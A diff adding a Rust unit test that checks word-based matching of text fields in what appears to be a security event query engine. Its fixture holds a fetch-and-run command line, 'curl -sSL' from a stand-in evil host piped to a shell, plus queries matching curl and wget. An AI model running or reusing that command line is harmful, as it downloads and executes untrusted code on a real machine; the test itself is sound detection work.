@@ -172,6 +172,30 @@ fn an_address_field_takes_addresses_and_networks() {
 }
 
 #[test]
+fn a_text_field_is_compared_by_its_words() {
+    check_each(
+        json!({"process.command_line": "Curl -sSL http://evil.example/x.sh | SH", "message": ["one two", "three"]}),
+        &[
+            ("process.command_line.text:curl", true),
+            ("process.command_line.text:cur", false),
+            ("process.command_line.text:wget sh", true),
+            (r#"process.command_line.text:"x.sh sh""#, true),
+            (r#"process.command_line.text:"sh x.sh""#, false),
+            (r#"process.command_line.text:"http://EVIL.example""#, true),
+            ("process.command_line.text:EVIL*", true),
+            ("process.command_line.text:*", true),
+            (r#"process.command_line.text:"|""#, false),
+            (r#"message:"two three""#, false),
+            (r#"message:("two" or four)"#, true),
+            ("not message:(four or five)", true),
+            ("message > thr and message < two", true),
+            ("process.*:curl", true),
+            ("sh", true),
+        ],
+    );
+}
+
+#[test]
 fn values_hold_blanks_and_end_at_keywords() {
     check_each(
         json!({"process.title": "nginx master order", "process.name": "and", "process.args": ["not this", "nothing", "a  b"]}),
